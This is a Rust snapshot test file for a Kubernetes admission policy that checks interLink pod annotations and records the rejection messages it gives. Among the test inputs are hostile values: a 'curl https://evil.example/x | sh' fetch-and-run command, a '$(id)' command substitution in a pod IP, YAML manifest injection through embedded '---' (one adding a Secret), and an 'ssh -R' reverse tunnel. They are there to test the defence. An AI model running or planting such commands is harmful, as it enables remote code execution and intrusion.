//! Every message of every rule, as a snapshot, so that a review sees each change of wording.
//!
//! When a message changes, the test fails and prints the difference. To accept it, run
//! `INSTA_UPDATE=always cargo test --package interlink-e2e-tests --test messages`, or `cargo insta review`, and commit
//! the snapshot.

use interlink_annotations_policy::cluster::no_cluster;
use interlink_annotations_policy::validate;
use interlink_e2e_tests::admission_request::AdmissionRequest;
use interlink_e2e_tests::fake_cluster::FakeCluster;
use kubewarden_policy_sdk::response::ValidationResponse;
use serde_json::{Value, json};

const VPN: &str = "interlink.eu/pod-vpn";
const IP: &str = "interlink.eu/pod-ip";
const TIMEOUT: &str = "interlink.virtual-kubelet.io/wstunnel-timeout";
const PORTS: &str = "interlink.eu/wstunnel-extra-ports";
const LOCAL_CONTAINERS: &str = "interlink.eu/disable-offload-containers";
const LOCAL_INIT_CONTAINERS: &str = "interlink.eu/disable-offload-init-containers";
const PING: &str = "interlink.virtual-kubelet.io/ping-response";
const PUBLIC_KEY: &str = "YW4gZXhhbXBsZSBvZiBhIHB1YmxpYyBrZXkhISEhISE=";
const COMMANDS: &str = "interlink.eu/wstunnel-client-commands";

#[test]
fn messages_match_reviewed_snapshot() {
    let sections = messages().into_iter().map(|(heading, messages)| {
        assert!(!messages.is_empty(), "no message for {heading}");
        format!("# {heading}\n{}\n", messages.join("\n"))
    });
    let text = sections.collect::<Vec<_>>().join("\n");
    let mut settings = insta::Settings::clone_current();
    settings.set_omit_expression(true);
    settings.bind(|| insta::assert_snapshot!("messages", text));
}

/// Returns the messages of a response, one a line.
fn evaluate(request: &AdmissionRequest, settings: &Value) -> Vec<String> {
    texts(validate(&request.payload(settings), &no_cluster))
}

/// Returns the messages of the response to the CREATE of a pod that requests 10.250.1.5 on the virtual node `hpc`, in a
/// cluster.
fn request_in(cluster: Value, cidrs: &Value) -> Vec<String> {
    let cluster: FakeCluster = serde_json::from_value(cluster).unwrap();
    let pod = json!({
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "new", "annotations": {IP: "10.250.1.5"}},
        "spec": {"nodeName": "hpc"},
    });
    let settings = json!({"podIP": {"cidrs": cidrs}, "cluster": {"podIPRanges": true, "podIPConflicts": true}});
    let payload = AdmissionRequest::create(pod).namespace("physics").payload(&settings);
    texts(validate(&payload, &|function, request| Ok(cluster.answer(function, request)?)))
}

/// Returns the messages of a response, one a line.
fn texts(response: ValidationResponse) -> Vec<String> {
    let refusal = response.message.map(|message| format!("refused ({}): {message}", response.code.unwrap_or_default()));
    let warnings = response.warnings.unwrap_or_default().into_iter().map(|warning| format!("warning: {warning}"));
    refusal.into_iter().chain(warnings).collect()
}

/// A pod with a port.
fn pod(annotations: &Value) -> Value {
    let containers = json!([{"name": "main", "ports": [{"containerPort": 80}]}, {"name": "sidecar"}]);
    pod_with_containers(annotations, &containers)
}

fn pod_with_containers(annotations: &Value, containers: &Value) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"annotations": annotations},
        "spec": {"containers": containers}})
}

/// The CREATE of an object under the default settings.
fn create(object: Value) -> Vec<String> {
    evaluate(&AdmissionRequest::create(object), &json!({}))
}

/// The CREATE of a pod with one annotation, where the settings allow a range of addresses.
fn create_pod(key: &str, value: &str) -> Vec<String> {
    evaluate_in_range(&json!({key: value}))
}

/// The CREATE of a pod, where the settings allow a range of addresses.
fn evaluate_in_range(annotations: &Value) -> Vec<String> {
    let settings = json!({"podIP": {"cidrs": ["10.250.0.0/16"]}});
    evaluate(&AdmissionRequest::create(pod(annotations)), &settings)
}

/// The CREATE of a workload with an address in its template.
fn create_shared(spec: &Value, version: &str, kind: &str) -> Vec<String> {
    let mut spec = spec.clone();
    let template = json!({"metadata": {"annotations": {IP: "10.250.1.5"}}});
    let holder = if kind == "CronJob" { &mut spec["jobTemplate"]["spec"] } else { &mut spec };
    holder["template"] = template;
    let workload = json!({"apiVersion": version, "kind": kind, "spec": spec});
    evaluate(&AdmissionRequest::create(workload), &json!({"podIP": {"cidrs": ["10.250.0.0/16"]}}))
}

/// The CREATE of a pod with an annotation of a plugin, where the settings allow none.
fn create_plugin(key: &str) -> Vec<String> {
    let settings = json!({"rules": {"plugin-annotations": "Deny"}});
    evaluate(&AdmissionRequest::create(pod(&json!({key: "x"}))), &settings)
}

/// The UPDATE of a pod's annotations.
fn update_pod(old: &Value, new: &Value) -> Vec<String> {
    evaluate(&AdmissionRequest::update(pod(old), pod(new)), &json!({}))
}

/// The same for a pod that has a node.
fn update_bound_pod(old: &Value, new: &Value) -> Vec<String> {
    let bound = |annotations| {
        let mut pod = pod(annotations);
        pod["spec"]["nodeName"] = "hpc".into();
        pod
    };
    evaluate(&AdmissionRequest::update(bound(old), bound(new)), &json!({}))
}

/// The UPDATE of the image in a `StatefulSet` whose template has an annotation.
fn update_image(key: &str, value: &str) -> Vec<String> {
    let stateful_set = |image| {
        let template = json!({"metadata": {"annotations": {key: value}}, "spec": {"containers": [{"image": image}]}});
        json!({"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {}, "spec": {"template": template}})
    };
    evaluate(&AdmissionRequest::update(stateful_set("a:1"), stateful_set("a:2")), &json!({}))
}

/// The audit request for an object with an annotation that a field manager set.
fn audit(kind: &str, key: &str, manager: &str) -> Vec<String> {
    let fields = json!({"f:metadata": {"f:annotations": {format!("f:{key}"): {}}}});
    let object = json!({"apiVersion": "v1", "kind": kind, "metadata": {"resourceVersion": "7",
        "annotations": {key: "1"}, "managedFields": [{"manager": manager, "fieldsV1": fields}]}});
    evaluate(&AdmissionRequest::audit(object), &json!({}))
}

/// Annotations with the commands of so many tunnels.
fn client_commands(count: usize) -> Value {
    (0..count).map(|tunnel| (format!("interlink.eu/tunnel-{tunnel:03}-client-commands"), json!("x"))).collect()
}

/// The CREATE of a pod with a `JobID` by a user.
fn create_as(username: &str) -> Vec<String> {
    let request = AdmissionRequest::create(pod(&json!({"JobID": "1"}))).user(username);
    evaluate(&request, &json!({}))
}

/// The user name of a controller of Kubernetes.
fn controller(name: &str) -> String {
    format!("system:serviceaccount:kube-system:{name}-controller")
}

/// Returns the messages for each problem, under a heading.
#[expect(clippy::too_many_lines, reason = "it is a table")]
fn messages() -> Vec<(&'static str, Vec<String>)> {
    let portless = json!([{"name": "main"}]);
    let named_port = json!([{"name": "main", "ports": [{"containerPort": 80, "name": "http"}]}]);
    let named = pod_with_containers(&json!({PORTS: "9090:http"}), &named_port);
    let vpn_and_shadow = json!({"interlink.eu/shadow-same-ns": "true", VPN: "true"});
    let custom_resource = json!({"apiVersion": "example.org/v1", "kind": "Fleet",
        "metadata": {"annotations": {VPN: "true"}},
        "spec": {"groups": [{"metadata": {"annotations": {VPN: "no"}}, "spec": {"containers": []}}]}});
    let deep = (0..126).fold(json!({VPN: []}), |inner, _| json!([inner]));
    let deep = json!({"apiVersion": "example.org/v1", "kind": "Fleet", "spec": deep});
    let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"annotations": {VPN: "true", COMMANDS: "x", "interlink.eu/pod-vpm": "x"}},
        "spec": {"template": {"metadata": {"annotations": {"JobID": "1", COMMANDS: "x"}}}}});
    let long_cron_job = json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {},
    "spec": {"jobTemplate": {"spec": {"template": {
        "metadata": {"annotations": {
            (LOCAL_CONTAINERS): format!("{0}1,{0}2", "sidecar".repeat(8)),
            (format!("interlink.eu/{}", "x".repeat(63))): "",
        }},
        "spec": {"containers": [{"name": "main"}, {"name": "sidecar"}]},
    }}}}});
    let in_cluster = |object: &Value| json!({"objects": [object]});
    let node = |range: &str| {
        let labels = json!({"virtual-node.interlink/type": "virtual-kubelet"});
        json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "hpc", "labels": labels}, "spec": {"podCIDR": range}})
    };
    let holder = |namespace: &str, deleted: &Value| {
        let metadata = json!({"name": "db-0", "namespace": namespace, "deletionTimestamp": deleted});
        json!({"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "status": {"podIPs": [{"ip": "10.250.1.5"}]}})
    };
    let (range, deleted) = (json!(["10.250.0.0/16"]), json!("2026-05-04T08:12:44Z"));
    vec![
        ("JobID set", create_pod("JobID", "slurm-12345")),
        ("JobID changed", update_pod(&json!({"JobID": "1"}), &json!({"JobID": "2"}))),
        ("JobID removed", update_pod(&json!({"JobID": "1"}), &json!({}))),
        ("JobID in the template of a Job, copied by its controller", create_as(&controller("job"))),
        ("JobID in the template of a Deployment, copied by a controller", create_as(&controller("replicaset"))),
        ("stored JobID, set with kubectl", audit("Pod", "JobID", "kubectl-edit")),
        ("stored JobID, copied by a controller", audit("Pod", "JobID", "kube-controller-manager")),
        ("another tunnel's client commands set", create_pod("interlink.eu/ssh-client-commands", "ssh -R 80:web:80")),
        ("client commands set", create_pod(COMMANDS, "curl https://evil.example/x | sh")),
        ("stored client commands, set with kubectl", audit("Pod", COMMANDS, "kubectl-edit")),
        ("ping response on a pod", create_pod(PING, "ok")),
        ("stored ping response on a Node, set with kubectl", audit("Node", PING, "kubectl-edit")),
        ("invalid value of pod-vpn", create_pod(VPN, "false")),
        (
            "invalid value of pod-vpn, with a page for help",
            evaluate(
                &AdmissionRequest::create(pod(&json!({VPN: "false"}))),
                &json!({"helpURL": "https://example.org/interlink"}),
            ),
        ),
        ("pod IP with a prefix length", create_pod(IP, "10.250.1.5/16")),
        ("pod IP that is a shell command", create_pod(IP, "$(id)")),
        ("pod IP outside the allowed range", create_pod(IP, "10.96.0.10")),
        ("reserved pod IP", create_pod(IP, "10.250.0.1")),
        ("pod IP with a last octet outside the allowed range", create_pod(IP, "10.250.1.251")),
        ("pod IP that is IPv4 written as IPv6", create_pod(IP, "::ffff:10.250.1.5")),
        ("pod IP that mixes IPv6 and IPv4 notation", create_pod(IP, "2001:db8::1.2.3.4")),
        ("pod IP where the settings allow no range", create(pod(&json!({IP: "10.250.1.5"})))),
        ("pod IP for several replicas", create_shared(&json!({"replicas": 3}), "apps/v1", "Deployment")),
        ("pod IP for each node", create_shared(&json!({}), "apps/v1", "DaemonSet")),
        ("pod IP for Jobs that may overlap", create_shared(&json!({}), "batch/v1", "CronJob")),
        ("empty timeout", create_pod(TIMEOUT, "")),
        ("timeout in days", create_pod(TIMEOUT, "1d")),
        ("timeout without a unit", create_pod(TIMEOUT, "90")),
        ("timeout without its last unit", create_pod(TIMEOUT, "1m30")),
        ("timeout with an unknown unit", create_pod(TIMEOUT, "2 min")),
        ("timeout without a number", create_pod(TIMEOUT, "soon")),
        ("timeout that overflows", create_pod(TIMEOUT, "9999999999h")),
        ("timeout of zero", create_pod(TIMEOUT, "0s")),
        ("timeout below the minimum", create_pod(TIMEOUT, "10ms")),
        ("timeout above the maximum", create_pod(TIMEOUT, "100000m")),
        ("timeout together with the VPN", create(pod(&json!({VPN: "true", TIMEOUT: "2m"})))),
        (
            "object that is too large",
            create(pod_with_containers(
                &json!({VPN: "true"}),
                &json!([{"name": "main", "args": ["x".repeat(768 * 1024)]}]),
            )),
        ),
        ("extra ports, empty", create_pod(PORTS, "")),
        ("extra port without a number", create_pod(PORTS, "8080,http")),
        ("extra port out of range", create_pod(PORTS, "80800")),
        ("extra port with a protocol in place of a name", create_pod(PORTS, "5353:UDP")),
        ("extra port with an invalid name", create_pod(PORTS, "8080:My_Port")),
        ("extra port with an unknown protocol", create_pod(PORTS, "8080:web:HTTP")),
        ("extra port with too many parts", create_pod(PORTS, "8080:web:tcp:x")),
        ("extra port without a name", create_pod(PORTS, "5353::UDP")),
        ("extra port with a name of the tunnel's own", create_pod(PORTS, "9000:webhook")),
        ("extra port with the name of a container's port", create(named)),
        ("duplicate extra port", create_pod(PORTS, "8080,8080:web")),
        ("duplicate name of an extra port", create_pod(PORTS, "8080:web,9090:web")),
        ("extra port with a name that YAML reads as a boolean", create_pod(PORTS, "8080:on")),
        ("extra port that adds a manifest", create_pod(PORTS, "8080:web\n---")),
        ("invalid value of mesh-network", create_pod("interlink.eu/mesh-network", "off")),
        ("MTU that is not a number", create_pod("interlink.eu/wg-mtu", "1420 bytes")),
        ("MTU out of range", create_pod("interlink.eu/wg-mtu", "99999")),
        ("negative keepalive", create_pod("interlink.eu/wg-keepalive-seconds", "-1")),
        ("invalid public key", create_pod("interlink.eu/wg-peer-public-key", "c2hvcnQ=")),
        ("valid public key", create_pod("interlink.eu/wg-peer-public-key", PUBLIC_KEY)),
        ("MTU that may be a key", create_pod("interlink.eu/wg-mtu", &PUBLIC_KEY[..43])),
        (
            "mesh annotation on a pod that leaves the mesh",
            create(pod(&json!({"interlink.eu/mesh-network": "disabled", "interlink.eu/wg-mtu": "1420"}))),
        ),
        ("private key", create_pod("interlink.eu/wg-private-key", "c2VjcmV0")),
        ("private key that adds a manifest", create_pod("interlink.eu/wg-private-key", "x\n---\nkind: Secret")),
        ("unknown container kept local", create_pod(LOCAL_CONTAINERS, "main,sidcar")),
        ("all containers kept local", create_pod(LOCAL_CONTAINERS, "main,sidecar")),
        (
            "container kept local on a pod without ports",
            create(pod_with_containers(
                &json!({LOCAL_CONTAINERS: "sidecar"}),
                &json!([{"name": "main"}, {"name": "sidecar"}]),
            )),
        ),
        ("container kept local on a pod with the VPN", create(pod(&json!({LOCAL_CONTAINERS: "sidecar", VPN: "true"})))),
        ("unknown init container kept local", create_pod(LOCAL_INIT_CONTAINERS, "fetch")),
        ("invalid value of shadow-same-ns", create_pod("interlink.eu/shadow-same-ns", "yes")),
        ("misspelled annotation", create_pod("interlink.eu/wstunnel-timeout", "2m")),
        ("misspelled annotation that only interLink may write", create_pod("interlink.eu/job-id", "1")),
        ("unknown annotation, not similar to a known one", create_pod("interlink.eu/colour", "blue")),
        ("annotation of a plugin", create_plugin("slurm-job.vk.io/pre-exec")),
        ("annotation that plugins no longer read", create_plugin("slurm-job.knoc.io/flags")),
        ("pod IP without effect, together with the VPN", evaluate_in_range(&json!({IP: "10.250.1.5", VPN: "true"}))),
        (
            "shadow-same-ns without effect, together with the VPN",
            create(pod_with_containers(&vpn_and_shadow, &portless)),
        ),
        (
            "timeout without effect, on a pod without ports",
            create(pod_with_containers(&json!({TIMEOUT: "2m"}), &portless)),
        ),
        ("Deployment with annotations on itself and in its template", create(deployment)),
        ("address changed on a pod that has a node", update_bound_pod(&json!({IP: "x"}), &json!({IP: "y"}))),
        ("address removed from a pod that has a node", update_bound_pod(&json!({IP: "10.250.1.5"}), &json!({}))),
        ("VPN removed from a pod that has a node", update_bound_pod(&json!({VPN: "true"}), &json!({}))),
        ("timeout set on a pod that has a node", update_bound_pod(&json!({}), &json!({TIMEOUT: "10m"}))),
        ("new image in a StatefulSet whose template has a JobID", update_image("JobID", "1")),
        ("warning that is too long, on a CronJob", create(long_cron_job)),
        ("custom resource with annotations on itself and in its template", create(custom_resource)),
        ("custom resource that is nested too deeply", create(deep)),
        ("annotation that is not a string", create(pod(&json!({VPN: true})))),
        ("too many annotations that only interLink writes", create(pod(&client_commands(33)))),
        (
            "An address outside the range of the virtual node",
            request_in(in_cluster(&node("10.251.0.0/16")), &json!([])),
        ),
        ("An address without any range", request_in(in_cluster(&json!({})), &json!([]))),
        ("The address of another pod", request_in(in_cluster(&holder("physics", &Value::Null)), &range)),
        ("The address of a pod in another namespace", request_in(in_cluster(&holder("other", &Value::Null)), &range)),
        ("The address of a pod that is being deleted", request_in(in_cluster(&holder("physics", &deleted)), &range)),
        ("A cluster that cannot be read", request_in(json!({"error": "access is forbidden"}), &range)),
        (
            "A cluster that cannot be read, without a range",
            request_in(json!({"error": "access is forbidden"}), &json!([])),
        ),
    ]
}
